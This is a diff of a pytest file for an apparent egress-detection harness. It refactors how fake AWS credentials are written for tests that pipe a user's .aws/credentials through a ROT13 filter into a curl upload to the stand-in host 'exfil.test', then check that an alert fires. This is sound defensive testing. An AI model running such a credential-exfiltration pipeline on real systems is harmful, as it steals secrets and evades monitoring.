@@ -13,7 +13,7 @@ import time
 import pytest
 
 from kharness.servers import sha256
-from kharness.users import write_user_file
+from kharness.users import write_aws_credentials
 
 ALERT_TIMEOUT = 6.0  # tainted-egress waits 2 s for a stronger alert before it is raised
 ROT13 = "tr A-Za-z N-ZA-Mn-za-m"
@@ -21,13 +21,6 @@ ROT13 = "tr A-Za-z N-ZA-Mn-za-m"
 
 def _redacted(agent, alerts) -> str:
     return agent.registry.redact(json.dumps(alerts, indent=1))[:4000]
-
-
-def _aws_credentials(test_user, registry):
-    key_id, secret = registry.new("aws-id"), registry.new("aws-secret")
-    return write_user_file(test_user, ".aws/credentials",
-                           f"[default]\naws_access_key_id = {key_id}\n"
-                           f"aws_secret_access_key = {secret}\n")
 
 
 def _tainted(alert) -> bool:
@@ -45,7 +38,7 @@ WRITERS = {
 @pytest.mark.parametrize("writer", sorted(WRITERS))
 def test_credentials_piped_through_a_filter_to_curl_alert_naming_the_read(
         writer, test_user, agent, clients, https_server, curl, registry):
-    creds = _aws_credentials(test_user, registry)
+    creds = write_aws_credentials(test_user, registry)
     upload = " ".join(curl.https(https_server, "exfil.test", "/p") + ["--data-binary", "@-"])
     source = WRITERS[writer].format(creds=creds)
     clients.run(["sh", "-c", f"{source} | {ROT13} | {upload}"], user=test_user)
@@ -73,7 +66,7 @@ def test_credentials_piped_through_a_filter_to_curl_alert_naming_the_read(
 
 def test_a_send_fed_by_a_pipe_that_carried_no_credential_is_quiet(
         test_user, agent, clients, https_server, curl, registry):
-    creds = _aws_credentials(test_user, registry)
+    creds = write_aws_credentials(test_user, registry)
     # The same shell reads the file into a pipe that goes nowhere near the network, then
     # a second pipeline sends harmless bytes: neither the shell nor that curl is tainted.
     upload = " ".join(curl.https(https_server, "exfil.test", "/q") + ["--data-binary", "@-"])
